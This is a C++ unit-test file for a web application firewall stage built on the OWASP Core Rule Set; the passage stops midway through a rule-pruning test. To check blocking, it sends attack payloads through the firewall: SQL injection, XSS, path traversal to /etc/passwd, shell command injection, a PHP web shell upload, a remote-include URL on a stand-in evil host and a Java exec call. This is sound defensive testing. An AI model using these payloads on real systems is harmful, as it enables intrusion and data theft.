// The WAF stage against the real OWASP CRS 3.3 (Debian's modsecurity-crs) at paranoia level 1: attacks in
// query, headers, JSON, urlencoded and multipart bodies are blocked with their rule ids recorded; realistic
// benign API traffic passes; detect mode records without blocking; exclusions; the body inspection limit;
// redirect/close interventions; response inspection; one RuleSet shared by 4 threads.
//
// Each distinct configuration is compiled once per suite (loading the CRS takes ~0.3-1 s).
// ThreadSanitizer run (our code instrumented; libmodsecurity itself is not, so races inside it are not seen):
//   cmake -S . -B /work/build-waf-tsan -G Ninja -DCMAKE_BUILD_TYPE=RelWithDebInfo
//     -DCMAKE_CXX_FLAGS=-fsanitize=thread -DCMAKE_EXE_LINKER_FLAGS=-fsanitize=thread
//     -DCMAKE_CXX_STANDARD_LIBRARIES=-lmodsecurity
//   ninja -C /work/build-waf-tsan -j1 unit_policies
//   /work/build-waf-tsan/tests/unit_policies --gtest_filter='WafConcurrency.*'
#include "policies/waf/waf_stage.hpp"

#include <gtest/gtest.h>

#include <unistd.h>

#include <algorithm>
#include <array>
#include <atomic>
#include <filesystem>
#include <fstream>
#include <map>
#include <thread>
#include <tuple>

#include "policies/request_context.hpp"

namespace gerbang::policies::waf {
namespace {

using Mode = WafRouteConfig::Mode;

struct Req {
  std::string method = "GET";
  std::string target = "/api/v1/items";
  std::vector<std::pair<std::string, std::string>> headers;  // added to the defaults below
  std::string body;
  std::string content_type;
  std::size_t chunk = 0;     // body chunk size; 0 = one chunk
  bool chunked = false;      // Transfer-Encoding: chunked instead of Content-Length
  bool defaults = true;      // Host, User-Agent, Accept
};

struct Outcome {
  Verdict verdict;
  std::vector<std::uint32_t> ids;
  WafRecord record;
  bool blocked() const { return !verdict.is_next(); }
  bool has(std::uint32_t id) const { return std::find(ids.begin(), ids.end(), id) != ids.end(); }
  std::string why() const { return "reason=" + std::string(to_string(verdict.reason)) + " msgs=" + record.messages; }
};

Outcome run(const Stage& stage, const Req& r, std::string_view request_id = "req-test-1") {
  std::vector<std::pair<std::string, std::string>> hs;
  if (r.defaults) {
    hs.emplace_back("Host", "api.kota.go.id");
    hs.emplace_back("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/124.0 Safari/537.36");
    hs.emplace_back("Accept", "application/json");
  }
  hs.insert(hs.end(), r.headers.begin(), r.headers.end());
  if (!r.content_type.empty()) hs.emplace_back("Content-Type", r.content_type);
  if (!r.body.empty()) {
    if (r.chunked) hs.emplace_back("Transfer-Encoding", "chunked");
    else hs.emplace_back("Content-Length", std::to_string(r.body.size()));
  }
  std::vector<HeaderField> fields;
  for (const auto& [n, v] : hs) fields.push_back({n, v});

  RequestContext ctx;
  ctx.request.method = r.method;
  ctx.request.target = r.target;
  ctx.request.path = std::string_view(r.target).substr(0, r.target.find('?'));
  ctx.request.host = "api.kota.go.id";
  ctx.request.headers = fields;
  ctx.request.client.text = "203.0.113.7";
  ctx.request.peer.text = "203.0.113.7";
  ctx.request.peer_port = 51234;
  ctx.request.local_address = "10.0.0.2";
  ctx.request.local_port = 443;
  ctx.request.request_id = request_id;

  Outcome o;
  o.verdict = stage.on_request_head(ctx);
  if (o.verdict.is_next() && needs_body(ctx)) {
    const auto* p = reinterpret_cast<const std::byte*>(r.body.data());
    const std::size_t step = r.chunk == 0 ? std::max<std::size_t>(r.body.size(), 1) : r.chunk;
    std::size_t off = 0;
    do {
      const std::size_t n = std::min(step, r.body.size() - off);
      const bool last = off + n == r.body.size();
      o.verdict = feed_body(ctx, std::span(p + off, n), last);
      off += n;
      if (!o.verdict.is_next() || !needs_body(ctx)) break;
    } while (off < r.body.size());
  }
  finish_request(ctx);
  EXPECT_EQ(ctx.waf_state, nullptr);
  o.ids = ctx.waf_rule_ids;
  o.record = ctx.waf;
  return o;
}

Req get(std::string target) {
  Req r;
  r.target = std::move(target);
  return r;
}

Req post(std::string body, std::string content_type, std::string target = "/api/v1/items") {
  Req r;
  r.method = "POST";
  r.target = std::move(target);
  r.body = std::move(body);
  r.content_type = std::move(content_type);
  return r;
}

std::string multipart(const std::string& boundary, const std::vector<std::array<std::string, 4>>& parts) {
  // parts: name, filename ("" = field), content type ("" = none), content
  std::string b;
  for (const auto& p : parts) {
    b += "--" + boundary + "\r\n";
    b += "Content-Disposition: form-data; name=\"" + p[0] + "\"";
    if (!p[1].empty()) b += "; filename=\"" + p[1] + "\"";
    b += "\r\n";
    if (!p[2].empty()) b += "Content-Type: " + p[2] + "\r\n";
    b += "\r\n" + p[3] + "\r\n";
  }
  b += "--" + boundary + "--\r\n";
  return b;
}

// A valid 1x1 PNG.
std::string small_png() {
  static const unsigned char png[] = {
      0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52, 0x00, 0x00,
      0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x06, 0x00, 0x00, 0x00, 0x1f, 0x15, 0xc4, 0x89, 0x00, 0x00, 0x00,
      0x0d, 0x49, 0x44, 0x41, 0x54, 0x78, 0x9c, 0x63, 0xf8, 0xcf, 0xc0, 0xf0, 0x1f, 0x00, 0x05, 0x00, 0x01, 0xff,
      0x89, 0x99, 0x3d, 0x1d, 0x00, 0x00, 0x00, 0x00, 0x49, 0x45, 0x4e, 0x44, 0xae, 0x42, 0x60, 0x82};
  return std::string(reinterpret_cast<const char*>(png), sizeof png);
}

TEST(WafReasons, StableNamesAndStatuses) {
  EXPECT_EQ(to_string(Reason::waf_blocked), "waf.blocked");
  EXPECT_EQ(info(Reason::waf_blocked).status, 403u);
  EXPECT_EQ(to_string(Reason::waf_engine_error), "waf.engine_error");
  EXPECT_EQ(info(Reason::waf_engine_error).status, 500u);
  EXPECT_EQ(to_string(Reason::waf_body_over_limit), "waf.body_over_limit");
  EXPECT_EQ(info(Reason::waf_body_over_limit).status, 413u);
  EXPECT_EQ(to_string(Reason::waf_redirect), "waf.redirect");
  EXPECT_EQ(info(Reason::waf_redirect).status, 302u);
}

// ---- shared stages, compiled once ----

struct Stages {
  std::shared_ptr<Engine> engine;
  std::unique_ptr<Stage> block, detect, excluded, limit_reject, limit_pass, response;
};

Stages* g = nullptr;

std::unique_ptr<Stage> build(Engine& e, const WafRouteConfig& c) {
  std::string error;
  auto s = make_waf_stage(e, c, error);
  EXPECT_NE(s, nullptr) << error;
  return s;
}

class WafStageTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    if (g != nullptr) return;
    g = new Stages();
    std::string error;
    g->engine = Engine::create(WafGlobalConfig{}, error);
    ASSERT_NE(g->engine, nullptr) << error;
    WafRouteConfig c;
    c.mode = Mode::block;
    g->block = build(*g->engine, c);
    c.mode = Mode::detect;
    g->detect = build(*g->engine, c);
    c.mode = Mode::block;
    c.exclude_rules = {913100};                                  // scanner user agents
    c.exclude_targets = {{942100, "ARGS:password"}, {941100, "REQUEST_HEADERS:Referer"}};
    g->excluded = build(*g->engine, c);
    c = {};
    c.mode = Mode::block;
    c.body_inspection_limit = 1024;
    g->limit_reject = build(*g->engine, c);
    c.over_limit = WafRouteConfig::OverLimit::pass;
    g->limit_pass = build(*g->engine, c);
    c = {};
    c.mode = Mode::block;
    c.inspect_response = true;
    g->response = build(*g->engine, c);
  }
};

// ---- attacks, block mode, PL1 ----

TEST_F(WafStageTest, SqlInjectionInQueryIsBlocked) {
  for (const char* t : {"/api/v1/items?id=1%27%20OR%20%271%27%3D%271",
                        "/api/v1/items?id=1%20UNION%20SELECT%20username,password%20FROM%20users--"}) {
    const Outcome o = run(*g->block, get(t));
    EXPECT_EQ(o.verdict.reason, Reason::waf_blocked) << t << " " << o.why();
    EXPECT_EQ(info(o.verdict.reason).status, 403u);
    EXPECT_TRUE(o.has(949110)) << o.why();
    EXPECT_TRUE(std::any_of(o.ids.begin(), o.ids.end(), [](auto id) { return id / 1000 == 942; })) << o.why();
    EXPECT_GE(o.record.anomaly_score, 5);
    EXPECT_TRUE(o.record.intervened);
    EXPECT_EQ(o.record.mode, "block");
  }
}

TEST_F(WafStageTest, XssInQueryHeaderAndJsonIsBlocked) {
  const Outcome q = run(*g->block, get("/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"));
  EXPECT_EQ(q.verdict.reason, Reason::waf_blocked) << q.why();
  EXPECT_TRUE(q.has(941100)) << q.why();

  Req h = get("/search?q=ok");
  h.headers.emplace_back("Referer", "https://x.example/<script>alert(1)</script>");
  const Outcome ho = run(*g->block, h);
  EXPECT_EQ(ho.verdict.reason, Reason::waf_blocked) << ho.why();
  EXPECT_TRUE(std::any_of(ho.ids.begin(), ho.ids.end(), [](auto id) { return id / 1000 == 941; })) << ho.why();

  const Outcome j = run(*g->block, post(R"({"name":"<script>alert(1)</script>","qty":2})", "application/json"));
  EXPECT_EQ(j.verdict.reason, Reason::waf_blocked) << j.why();
  EXPECT_TRUE(j.has(941100)) << j.why();
  EXPECT_NE(j.record.messages.find("941100 XSS Attack Detected via libinjection"), std::string::npos) << j.why();
}

TEST_F(WafStageTest, PathTraversalIsBlocked) {
  const Outcome o = run(*g->block, get("/files?name=../../../../etc/passwd"));
  EXPECT_EQ(o.verdict.reason, Reason::waf_blocked) << o.why();
  EXPECT_TRUE(o.has(930100) || o.has(930110) || o.has(930120)) << o.why();
}

TEST_F(WafStageTest, RemoteCommandExecutionIsBlocked) {
  for (const char* t : {"/ping?host=127.0.0.1%3Bcat%20/etc/passwd", "/ping?host=%24(id)"}) {
    const Outcome o = run(*g->block, get(t));
    EXPECT_EQ(o.verdict.reason, Reason::waf_blocked) << t << " " << o.why();
    EXPECT_TRUE(std::any_of(o.ids.begin(), o.ids.end(), [](auto id) { return id / 1000 == 932 || id / 1000 == 930; }))
        << t << " " << o.why();
  }
}

TEST_F(WafStageTest, ProtocolAttacksAreBlocked) {
  // HTTP header injection through a parameter (CR LF + a header).
  const Outcome o = run(*g->block, get("/redirect?next=%0d%0aSet-Cookie:%20session%3Dattacker"));
  EXPECT_EQ(o.verdict.reason, Reason::waf_blocked) << o.why();
  EXPECT_TRUE(std::any_of(o.ids.begin(), o.ids.end(), [](auto id) { return id / 1000 == 921; })) << o.why();
  // Request smuggling attempt in a parameter.
  const Outcome s = run(*g->block, get("/x?a=%0d%0aGET%20/admin%20HTTP/1.1%0d%0aHost:%20evil"));
  EXPECT_EQ(s.verdict.reason, Reason::waf_blocked) << s.why();
}

TEST_F(WafStageTest, AttacksInFormAndMultipartBodiesAreBlocked) {
  const Outcome f = run(*g->block, post("user=admin&comment=1%27%20UNION%20SELECT%20password%20FROM%20users--",
                                        "application/x-www-form-urlencoded"));
  EXPECT_EQ(f.verdict.reason, Reason::waf_blocked) << f.why();
  EXPECT_TRUE(std::any_of(f.ids.begin(), f.ids.end(), [](auto id) { return id / 1000 == 942; })) << f.why();

  const std::string body = multipart("----gerbang7MA4YWxk", {{"title", "", "", "laporan"},
                                                             {"comment", "", "", "<script>alert(document.cookie)</script>"}});
  const Outcome m = run(*g->block, post(body, "multipart/form-data; boundary=----gerbang7MA4YWxk"));
  EXPECT_EQ(m.verdict.reason, Reason::waf_blocked) << m.why();
  EXPECT_TRUE(m.has(941100)) << m.why();

  const Outcome rce = run(*g->block, post(R"({"host":"8.8.8.8; cat /etc/passwd"})", "application/json"));
  EXPECT_EQ(rce.verdict.reason, Reason::waf_blocked) << rce.why();
}

TEST_F(WafStageTest, AttackSplitAcrossBodyChunksIsBlocked) {
  Req r = post(R"({"q":"1' UNION SELECT username, password FROM users --","pad":")" + std::string(300, 'a') + "\"}",
               "application/json");
  r.chunk = 7;
  r.chunked = true;
  const Outcome o = run(*g->block, r);
  EXPECT_EQ(o.verdict.reason, Reason::waf_blocked) << o.why();
}

TEST_F(WafStageTest, MalformedJsonIsRefused) {
  const Outcome o = run(*g->block, post(R"({"name": "unterminated)", "application/json"));
  EXPECT_EQ(o.verdict.reason, Reason::waf_blocked) << o.why();
  EXPECT_TRUE(o.has(200002)) << o.why();
}

// ---- benign traffic ----

TEST_F(WafStageTest, RealisticApiRequestsPass) {
  std::vector<Req> reqs;
  reqs.push_back(get("/api/v1/penduduk?nik=3273012345670001&page=2&per_page=50"));
  reqs.push_back(get("/api/v1/search?q=puskesmas%20terdekat%20bandung&sort=-updated_at"));
  reqs.push_back(get("/api/v1/search?q=O%27Brien%20%26%20Sons"));
  reqs.push_back(post(R"({"nama":"Siti Nurhaliza","alamat":"Jl. Merdeka No. 17, Kec. Sukajadi","catatan":"Nama: Siti Nurhaliza, Alamat: Jl. Merdeka No. 17, Kec. Sukajadi","telepon":"+62 812-3456-7890"})",
                      "application/json"));
  reqs.push_back(post(R"({"comment":"It's \"great\" – we'll be there at 10:00, don't worry","rating":5,"tags":["ramah","cepat"]})",
                      "application/json; charset=utf-8"));
  reqs.push_back(post("nama=Budi+Santoso&kota=Bandung&keluhan=Jalan+rusak+di+depan+SD+Negeri+5",
                      "application/x-www-form-urlencoded"));
  reqs.push_back(post(multipart("----gerbangBoundary42", {{"judul", "", "", "Foto jalan rusak"},
                                                          {"berkas", "jalan.png", "image/png", small_png()}}),
                      "multipart/form-data; boundary=----gerbangBoundary42", "/api/v1/laporan"));
  Req put = post(R"({"status":"selesai"})", "application/json", "/api/v1/laporan/42");
  put.method = "PUT";
  reqs.push_back(put);
  Req del = get("/api/v1/laporan/42");
  del.method = "DELETE";
  reqs.push_back(del);
  Req bearer = get("/api/v1/profile");
  bearer.headers.emplace_back("Authorization", "Bearer eyJhbGciOiJFZERTQSJ9.eyJzdWIiOiJidWRpIn0.c2lnbmF0dXJl");
  bearer.headers.emplace_back("Cookie", "lang=id; theme=dark");
  reqs.push_back(bearer);
  for (const Req& r : reqs) {
    const Outcome o = run(*g->block, r);
    EXPECT_TRUE(o.verdict.is_next()) << r.method << " " << r.target << " " << r.body.substr(0, 80) << " " << o.why();
    EXPECT_TRUE(o.ids.empty()) << r.target << " " << o.why();
    EXPECT_EQ(o.record.anomaly_score, 0) << o.why();
    EXPECT_FALSE(o.record.intervened);
  }
}

// ---- detect mode ----

TEST_F(WafStageTest, DetectModePassesAndRecords) {
  const Outcome o = run(*g->detect, get("/api/v1/items?id=1%27%20OR%20%271%27%3D%271"));
  EXPECT_TRUE(o.verdict.is_next()) << o.why();
  EXPECT_TRUE(o.has(942100)) << o.why();
  EXPECT_TRUE(o.has(949110)) << o.why();  // "would have blocked"
  EXPECT_GE(o.record.anomaly_score, 5);
  EXPECT_EQ(o.record.mode, "detect");
  const Outcome j = run(*g->detect, post(R"({"x":"<script>alert(1)</script>"})", "application/json"));
  EXPECT_TRUE(j.verdict.is_next()) << j.why();
  EXPECT_TRUE(j.has(941100)) << j.why();
}

// ---- paranoia levels ----

// The route's paranoia level reaches the engine: 920320 (missing User-Agent) belongs to level 2.
TEST_F(WafStageTest, RulesOfAHigherParanoiaLevelRunOnlyAtThatLevel) {
  WafRouteConfig c;
  c.mode = Mode::detect;
  c.paranoia = 2;
  const auto pl2 = build(*g->engine, c);
  ASSERT_NE(pl2, nullptr);
  Req r = get("/api/v1/items");
  r.defaults = false;
  r.headers = {{"Host", "api.kota.go.id"}, {"Accept", "*/*"}};
  const Outcome at2 = run(*pl2, r);
  EXPECT_TRUE(at2.has(920320)) << at2.why();
  const Outcome at1 = run(*g->detect, r);
  EXPECT_FALSE(at1.has(920320)) << at1.why();
  // Level-1 detections run at level 1.
  const Outcome sqli = run(*g->detect, get("/api/v1/items?id=1%27%20OR%20%271%27%3D%271"));
  EXPECT_TRUE(sqli.has(942100)) << sqli.why();
}

// ---- exclusions ----

TEST_F(WafStageTest, ExclusionByIdLetsAFalsePositivePass) {
  Req r = get("/api/v1/items");
  r.headers = {};
  r.defaults = false;
  r.headers = {{"Host", "api.kota.go.id"}, {"User-Agent", "Nikto/2.1.6"}, {"Accept", "*/*"}};
  const Outcome blocked = run(*g->block, r);
  EXPECT_EQ(blocked.verdict.reason, Reason::waf_blocked) << blocked.why();
  EXPECT_TRUE(blocked.has(913100)) << blocked.why();
  const Outcome passed = run(*g->excluded, r);
  EXPECT_TRUE(passed.verdict.is_next()) << passed.why();
  EXPECT_FALSE(passed.has(913100)) << passed.why();
}

TEST_F(WafStageTest, ExclusionByIdAndTargetOnlyCoversThatTarget) {
  const Req pw = post("username=budi&password=1%27%20OR%20%271%27%3D%271", "application/x-www-form-urlencoded", "/login");
  const Outcome blocked = run(*g->block, pw);
  EXPECT_EQ(blocked.verdict.reason, Reason::waf_blocked) << blocked.why();
  EXPECT_TRUE(blocked.has(942100)) << blocked.why();
  const Outcome passed = run(*g->excluded, pw);
  EXPECT_TRUE(passed.verdict.is_next()) << passed.why();
  // The same payload in another argument is still caught.
  const Outcome other = run(*g->excluded, post("username=1%27%20OR%20%271%27%3D%271&password=x",
                                               "application/x-www-form-urlencoded", "/login"));
  EXPECT_EQ(other.verdict.reason, Reason::waf_blocked) << other.why();
  EXPECT_TRUE(other.has(942100)) << other.why();
}

// ---- body inspection limit ----

TEST_F(WafStageTest, ContentLengthOverTheLimitIsRejectedAtTheHead) {
  const Outcome o = run(*g->limit_reject, post(R"({"blob":")" + std::string(2000, 'a') + "\"}", "application/json"));
  EXPECT_EQ(o.verdict.reason, Reason::waf_body_over_limit) << o.why();
  EXPECT_EQ(info(o.verdict.reason).status, 413u);
}

TEST_F(WafStageTest, StreamedBodyOverTheLimitIsRejected) {
  Req r = post(R"({"blob":")" + std::string(2000, 'a') + "\"}", "application/json");
  r.chunked = true;
  r.chunk = 300;
  const Outcome o = run(*g->limit_reject, r);
  EXPECT_EQ(o.verdict.reason, Reason::waf_body_over_limit) << o.why();
  // Under the limit it passes.
  Req small = post(R"({"blob":")" + std::string(500, 'a') + "\"}", "application/json");
  small.chunked = true;
  small.chunk = 100;
  EXPECT_TRUE(run(*g->limit_reject, small).verdict.is_next());
}

TEST_F(WafStageTest, OverLimitPassInspectsThePrefixAndSaysSo) {
  // A JSON body cut at 1 KiB does not parse; that must not block when passing over-limit bodies.
  Req r = post(R"({"blob":")" + std::string(3000, 'a') + "\"}", "application/json");
  r.chunk = 400;
  const Outcome o = run(*g->limit_pass, r);
  EXPECT_TRUE(o.verdict.is_next()) << o.why();
  EXPECT_TRUE(o.record.body_truncated);
  // An attack inside the inspected prefix is still caught.
  Req a = post(R"({"q":"<script>alert(1)</script>","blob":")" + std::string(3000, 'a') + "\"}", "application/json");
  const Outcome ao = run(*g->limit_pass, a);
  EXPECT_EQ(ao.verdict.reason, Reason::waf_blocked) << ao.why();
  EXPECT_TRUE(ao.record.body_truncated);
  // Past the prefix it is not (documented: forwarded uninspected).
  Req late = post(R"({"blob":")" + std::string(3000, 'a') + R"(","q":"<script>alert(1)</script>"})", "application/json");
  const Outcome lo = run(*g->limit_pass, late);
  EXPECT_TRUE(lo.verdict.is_next()) << lo.why();
  EXPECT_TRUE(lo.record.body_truncated);
  // Multipart cut in the middle of a part passes as well.
  const std::string mp = multipart("b0und", {{"f", "big.bin", "application/octet-stream", std::string(4000, 'x')}});
  const Outcome mo = run(*g->limit_pass, post(mp, "multipart/form-data; boundary=b0und"));
  EXPECT_TRUE(mo.verdict.is_next()) << mo.why();
}

TEST_F(WafStageTest, DetectModeNeverRejectsOverLimit) {
  WafRouteConfig c;
  c.mode = Mode::detect;
  c.body_inspection_limit = 1024;  // over_limit: reject, but detect mode passes (like DetectionOnly)
  std::string error;
  auto s = make_waf_stage(*g->engine, c, error);
  ASSERT_NE(s, nullptr) << error;
  const Outcome o = run(*s, post(R"({"blob":")" + std::string(2000, 'a') + "\"}", "application/json"));
  EXPECT_TRUE(o.verdict.is_next()) << o.why();
  EXPECT_TRUE(o.record.body_truncated);
}

// ---- response inspection ----

// A GET /report from a client, as the response-inspection tests send it.
const HeaderField kReportHeaders[] = {{"Host", "api.kota.go.id"}, {"Accept", "*/*"}, {"User-Agent", "curl/8.5"}};

RequestContext report_request(std::string_view request_id) {
  RequestContext ctx;
  ctx.request.method = "GET";
  ctx.request.target = "/report";
  ctx.request.headers = kReportHeaders;
  ctx.request.client.text = "203.0.113.7";
  ctx.request.request_id = request_id;
  return ctx;
}

TEST_F(WafStageTest, ResponseInspectionCatchesADataLeak) {
  RequestContext ctx = report_request("resp-1");
  ASSERT_TRUE(g->response->on_request_head(ctx).is_next());
  ASSERT_FALSE(needs_body(ctx));
  ASSERT_TRUE(inspects_response(ctx));
  const std::vector<HeaderField> rh{{"Content-Type", "text/html"}, {"Content-Length", "120"}};
  ASSERT_TRUE(on_response_head(ctx, 200, rh).is_next());
  const std::string body =
      "<html><body>Warning: mysql_fetch_array() expects parameter 1 to be resource, boolean given in "
      "/var/www/html/report.php on line 12<br>You have an error in your SQL syntax; check the manual that "
      "corresponds to your MySQL server version</body></html>";
  const Verdict v = on_response_body(ctx, std::as_bytes(std::span(body)), true);
  EXPECT_EQ(v.reason, Reason::waf_blocked) << ctx.waf.messages;
  EXPECT_TRUE(std::any_of(ctx.waf_rule_ids.begin(), ctx.waf_rule_ids.end(), [](auto id) { return id / 1000 == 951; }))
      << ctx.waf.messages;
  finish_request(ctx);

  // A route without inspect_response does no response work at all.
  RequestContext c2 = report_request("resp-1");
  ASSERT_TRUE(g->block->on_request_head(c2).is_next());
  EXPECT_FALSE(inspects_response(c2));
  EXPECT_TRUE(on_response_body(c2, std::as_bytes(std::span(body)), true).is_next());
}

// ---- interventions: redirect and close; bad rules ----

TEST(WafInterventions, RedirectAndCloseAreHonoured) {
  const auto dir = std::filesystem::temp_directory_path() / ("gerbang-waf-" + std::to_string(::getpid()));
  std::filesystem::create_directories(dir);
  const auto rules = dir / "custom.conf";
  {
    std::ofstream f(rules);
    f << "SecRule ARGS:go \"@streq away\" \"id:1000001,phase:1,t:none,log,redirect:https://www.kota.go.id/blocked\"\n"
      << "SecRule ARGS:go \"@streq close\" \"id:1000002,phase:1,t:none,log,deny,status:444\"\n";
  }
  WafGlobalConfig global;
  global.extra_rule_files = {rules.string()};
  std::string error;
  auto engine = Engine::create(global, error);
  ASSERT_NE(engine, nullptr) << error;
  WafRouteConfig c;
  c.mode = Mode::block;
  auto stage = make_waf_stage(*engine, c, error);
  ASSERT_NE(stage, nullptr) << error;

  const Outcome r = run(*stage, get("/x?go=away"));
  EXPECT_EQ(r.verdict.action, Verdict::Action::respond);
  EXPECT_EQ(r.verdict.reason, Reason::waf_redirect) << r.why();
  EXPECT_EQ(r.verdict.headers, "Location: https://www.kota.go.id/blocked\r\n");
  EXPECT_TRUE(r.has(1000001)) << r.why();

  const Outcome c2 = run(*stage, get("/x?go=close"));
  EXPECT_EQ(c2.verdict.action, Verdict::Action::close) << c2.why();
  EXPECT_EQ(c2.verdict.reason, Reason::waf_blocked);

  EXPECT_TRUE(run(*stage, get("/x?go=stay")).verdict.is_next());
  std::filesystem::remove_all(dir);
}

TEST(WafRules, BadRuleFileFailsWithTheEnginesMessage) {
  const auto dir = std::filesystem::temp_directory_path() / ("gerbang-waf-bad-" + std::to_string(::getpid()));
  std::filesystem::create_directories(dir);
  const auto rules = dir / "broken.conf";
  {
    std::ofstream f(rules);
    f << "SecRule ARGS \"@rx foo\" \"id:1000010,phase:2,deny\"\n"
      << "SecRule ARGS \"@rx bar\" \"id:1000011,phase:2,nosuchaction\"\n";
  }
  WafGlobalConfig global;
  global.extra_rule_files = {rules.string()};
  std::string error;
  auto engine = Engine::create(global, error);
  ASSERT_NE(engine, nullptr) << error;
  WafRouteConfig c;
  c.mode = Mode::block;
  auto stage = make_waf_stage(*engine, c, error);
  EXPECT_EQ(stage, nullptr);
  EXPECT_NE(error.find("broken.conf"), std::string::npos) << error;
  EXPECT_NE(error.find("rule loading failed"), std::string::npos) << error;
  EXPECT_NE(error.find("Line: 2"), std::string::npos) << error;
  EXPECT_NE(error.find("nosuchaction"), std::string::npos) << error;

  WafGlobalConfig missing;
  missing.extra_rule_files = {(dir / "nope.conf").string()};
  EXPECT_EQ(Engine::create(missing, error), nullptr);
  EXPECT_NE(error.find("nope.conf"), std::string::npos) << error;
  std::filesystem::remove_all(dir);
}

// ---- concurrency: one RuleSet, 4 threads × 200 requests ----

class WafConcurrency : public WafStageTest {};

TEST_F(WafConcurrency, FourThreadsShareOneRuleSet) {
  std::atomic<int> wrong{0}, blocked{0}, passed{0};
  auto worker = [&](int t) {
    for (int i = 0; i < 200; ++i) {
      const std::string id = "t" + std::to_string(t) + "-" + std::to_string(i);
      Outcome o;
      bool attack = false;
      switch (i % 4) {
        case 0: o = run(*g->block, get("/api/v1/items?id=" + std::to_string(i) + "%27%20OR%20%271%27%3D%271"), id);
                attack = true; break;
        case 1: o = run(*g->block, get("/api/v1/items?page=" + std::to_string(i)), id); break;
        case 2: o = run(*g->block, post(R"({"x":"<script>alert()" + std::to_string(i) + R"()</script>"})",
                                        "application/json"), id);
                attack = true; break;
        default: o = run(*g->block, post(R"({"nama":"Siti Nurhaliza","n":)" + std::to_string(i) + "}",
                                         "application/json"), id);
      }
      if (o.blocked() != attack) ++wrong;
      (o.blocked() ? blocked : passed)++;
    }
  };
  std::vector<std::thread> ts;
  for (int t = 0; t < 4; ++t) ts.emplace_back(worker, t);
  for (auto& t : ts) t.join();
  EXPECT_EQ(wrong.load(), 0);
  EXPECT_EQ(blocked.load(), 400);
  EXPECT_EQ(passed.load(), 400);
}


// ---- pruning (rule_pruning.hpp): the same verdicts with and without ----

// Two engines: one that prunes (the default) and one that does not.
class WafPruning : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    std::string error;
    pruning = Engine::create(WafGlobalConfig{}, error);
    ASSERT_NE(pruning, nullptr) << error;
    WafGlobalConfig off;
    off.prune_unreachable_rules = false;
    plain = Engine::create(off, error);
    ASSERT_NE(plain, nullptr) << error;
  }
  static void TearDownTestSuite() {
    pruning.reset();
    plain.reset();
  }
  // The route's stage from each engine; the pruning engine's set must have left rules out, the other's none.
  std::pair<std::unique_ptr<Stage>, std::unique_ptr<Stage>> stages(const WafRouteConfig& c) {
    const auto set = pruning->rules_for(c, error);
    EXPECT_TRUE(set && set->not_pruned_because().empty() && set->pruned_rule_count() > 0)
        << "paranoia " << c.paranoia << ": " << (set ? set->not_pruned_because() : error);
    const auto full = plain->rules_for(c, error);
    EXPECT_TRUE(full && full->pruned_rule_count() == 0) << error;
    return {make_waf_stage(*pruning, c, error), make_waf_stage(*plain, c, error)};
  }
  static inline std::shared_ptr<Engine> pruning, plain;
  std::string error;
};

// A corpus of benign and hostile requests, each run through a route built by an engine that prunes and one
// that does not: verdict, matched rule ids (in order), anomaly score and messages must be identical.
TEST_F(WafPruning, VerdictsMatchAndMessagesAreIdenticalWithAndWithoutPruning) {

  std::vector<Req> corpus;
  for (const char* t : {"/api/v1/items", "/api/v1/items?page=2&sort=name", "/search?q=harga%20beras%20hari%20ini",
                        "/api/v1/items?id=1%27%20OR%20%271%27%3D%271",
                        "/api/v1/items?id=1%20UNION%20SELECT%20username,password%20FROM%20users--",
                        "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "/files?name=../../../../etc/passwd",
                        "/run?cmd=;cat%20/etc/passwd", "/x?a=%3C%3Fphp%20system($_GET[c]);%20%3F%3E",
                        "/x?u=http://evil.example/shell.txt?", "/x?s=java.lang.Runtime.getRuntime().exec(%22id%22)",
                        "/x?a=1&a=2&a=3", "/x?n=%00abc", "/index.php.bak", "/x?q=select%20pg_sleep(5)",
                        "/x?q=%27%20or%201=1%20--%20-", "/x?q=admin%27--", "/x?email=siti@kota.go.id&ref=abc-123"}) {
    corpus.push_back(get(t));
  }
  Req no_ua = get("/api/v1/items");
  no_ua.defaults = false;
  no_ua.headers = {{"Host", "api.kota.go.id"}, {"Accept", "*/*"}};
  corpus.push_back(no_ua);
  Req scanner = get("/");
  scanner.defaults = false;
  scanner.headers = {{"Host", "api.kota.go.id"}, {"User-Agent", "sqlmap/1.7"}, {"Accept", "*/*"}};
  corpus.push_back(scanner);
  Req ip_host = get("/");
  ip_host.defaults = false;
  ip_host.headers = {{"Host", "10.0.0.2"}, {"User-Agent", "curl/8.0"}};
  corpus.push_back(ip_host);
  Req referer = get("/search?q=ok");
  referer.headers.emplace_back("Referer", "https://x.example/<script>alert(1)</script>");
  corpus.push_back(referer);
  Req cookie = get("/api/v1/me");
  cookie.headers.emplace_back("Cookie", "session=abc; theme=dark");
  corpus.push_back(cookie);
  Req bad_method = get("/api/v1/items");
  bad_method.method = "TRACE";
  corpus.push_back(bad_method);
  corpus.push_back(post(R"({"nama":"Siti Nurhaliza","nik":"3201010101010001","alamat":"Jl. Merdeka 1"})",
                        "application/json"));
  corpus.push_back(post(R"({"name":"<script>alert(1)</script>","qty":2})", "application/json"));
  corpus.push_back(post(R"({"q":"1' UNION SELECT password FROM users --"})", "application/json"));
  corpus.push_back(post(R"({"broken": )", "application/json"));
  corpus.push_back(post("nama=Budi&kota=Bandung&catatan=kirim+besok", "application/x-www-form-urlencoded"));
  corpus.push_back(post("q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", "application/x-www-form-urlencoded"));
  const std::string form = "multipart/form-data; boundary=b0undary";
  const std::string png = small_png();
  corpus.push_back(
      post(multipart("b0undary", {{{"note", "", "", "hello"}}, {{"f", "a.png", "image/png", png}}}), form));
  const std::string php = "<?php system($_GET['c']); ?>";
  corpus.push_back(post(multipart("b0undary", {{{"f", "shell.php", "application/x-php", php}}}), form));
  corpus.push_back(post("<a><b>x</b></a>", "text/xml"));

  std::vector<WafRouteConfig> configs;
  for (const int pl : {1, 2, 3, 4}) {
    WafRouteConfig c;
    c.mode = pl == 3 ? Mode::detect : Mode::block;
    c.paranoia = pl;
    configs.push_back(c);
  }
  WafRouteConfig excluded;
  excluded.mode = Mode::block;
  excluded.exclude_rules = {913100};
